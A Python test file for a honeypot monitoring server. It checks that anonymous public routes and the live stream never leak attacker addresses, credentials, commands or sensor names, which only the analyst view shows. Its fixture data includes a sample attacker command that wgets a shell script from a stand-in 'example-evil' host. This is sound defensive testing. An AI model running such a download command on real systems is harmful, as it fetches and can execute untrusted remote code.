"""The public view leaks nothing it promises to hide.

Events with known source addresses, user names, passwords, commands, URLs, user agents and
sensor names are posted to a server with the public view on; then everything an anonymous
visitor can reach is read (every route of the app over HTTP, and several seconds of the live
stream from before the posts to after them) and searched for each of those values. The
analyst's view of the same server shows them, so the search would find them if they leaked.
"""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import httpx
from websockets.sync.client import connect

from tests.auth import ANONYMOUS
from tests.conftest import start_server
from tests.waiting import wait_until
from tests.web.test_audiences import REQUESTS, served_routes

SENSOR = "syd-secret-honeypot-01"
SECRETS = {
    "source address": "45.155.205.233",
    "second source": "61.177.172.13",
    "user name": "svc_backup_7731",
    "password": "Tr0ub4dor&3-secret",
    "command": "wget http://files.example-evil.net/x.sh",
    "url": "/cgi-bin/secret-path.cgi",
    "user agent": "Mozilla/5.0 SecretAgent/9.9",
    "sensor": SENSOR,
    "honeypot address": "192.0.2.55",
    "client banner": "SSH-2.0-SecretClient_1.0",
}


def _records() -> list[dict[str, object]]:
    now = time.time()
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + ".000000Z"
    base = {"timestamp": stamp, "session": "s1", "sensor": SENSOR, "dst_ip": SECRETS["honeypot address"],
            "dst_port": 22, "src_port": 50000}
    records = []
    for src in (SECRETS["source address"], SECRETS["second source"]):
        records += [
            {**base, "eventid": "cowrie.session.connect", "src_ip": src, "protocol": "ssh"},
            {**base, "eventid": "cowrie.client.version", "src_ip": src, "version": SECRETS["client banner"]},
            {**base, "eventid": "cowrie.login.failed", "src_ip": src, "username": SECRETS["user name"],
             "password": SECRETS["password"]},
            {**base, "eventid": "cowrie.command.input", "src_ip": src, "input": SECRETS["command"]},
        ]
    return records


def _glastopf(stamp: str) -> dict[str, object]:
    return {"time": stamp, "source": [SECRETS["second source"], 4444], "request_url": SECRETS["url"],
            "request_raw": f"GET {SECRETS['url']} HTTP/1.1\r\nUser-Agent: {SECRETS['user agent']}\r\n\r\n",
            "pattern": "unknown", "filename": None}


def test_nothing_secret_reaches_the_public(tmp_path: Path) -> None:
    server, stop = start_server(tmp_path / "data", public={"enabled": True})
    try:
        token = server.add_sensor(SENSOR, location=(-33.87, 151.21))
        web_token = server.add_sensor("web-secret-02", honeypot="glastopf", location=(-33.9, 151.2))
        frames: list[str] = []
        done = threading.Event()

        def listen() -> None:
            with connect(server.ws_url, open_timeout=10) as ws:  # anonymous: no credentials at all
                while not done.is_set():
                    try:
                        frames.append(str(ws.recv(timeout=0.5)))
                    except TimeoutError:
                        continue

        reader = threading.Thread(target=listen, daemon=True)
        reader.start()
        wait_until(lambda: frames, timeout=10)  # the snapshot: the stream is open before the posts
        body = "\n".join(json.dumps(r) for r in _records())
        answer = httpx.post(f"{server.url}api/v1/ingest/cowrie", content=body,
                            headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 200, answer.text
        stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime())
        answer = httpx.post(f"{server.url}api/v1/ingest/glastopf", content=json.dumps(_glastopf(stamp)),
                            headers={"Authorization": f"Bearer {web_token}"})
        assert answer.status_code == 200, answer.text
        wait_until(lambda: sum('"events"' in f for f in frames) and
                   sum(f.count('"kind"') for f in frames if '"type":"events"' in f) >= 9, timeout=15)
        time.sleep(2)  # and a few more frames (incidents, heartbeats)
        done.set()
        reader.join(5)

        # The analyst sees the secrets: the search below would find a leak.
        analyst_view = httpx.get(f"{server.url}api/v1/events?limit=100").text
        for name in ("source address", "user name", "password", "command", "sensor", "url", "user agent"):
            assert SECRETS[name] in analyst_view, name

        public: dict[str, str] = {"live stream": "\n".join(frames)}
        for template in served_routes(server):
            method, path, body_json = REQUESTS[template]
            if method == "WS":
                continue
            reply = httpx.request(method, server.url.rstrip("/") + path, json=body_json, headers={ANONYMOUS: "1"})
            public[f"{method} {path} ({reply.status_code})"] = reply.text
        summary = httpx.get(f"{server.url}api/v1/stats/summary?top=100", headers={ANONYMOUS: "1"})
        assert summary.status_code == 200
        public["summary top 100"] = summary.text
        assert summary.json()["counts"]["24h"] >= 9  # the public sees the counters...
        assert summary.json()["top"]["countries"]  # ...and the top countries

        leaks = [f"{name} in {where}" for where, text in public.items() for name, value in SECRETS.items()
                 if value in text]
        assert not leaks, leaks
        events = [e for f in frames if '"type":"events"' in f for e in json.loads(f)["events"]]
        assert events and all(e["src_ip"].endswith("/24") for e in events)
        assert {e["sensor"] for e in events} <= {"AU"}  # a sensor is its country
        assert all(e["dst_geo"]["precision"] == "country" for e in events)
    finally:
        stop()
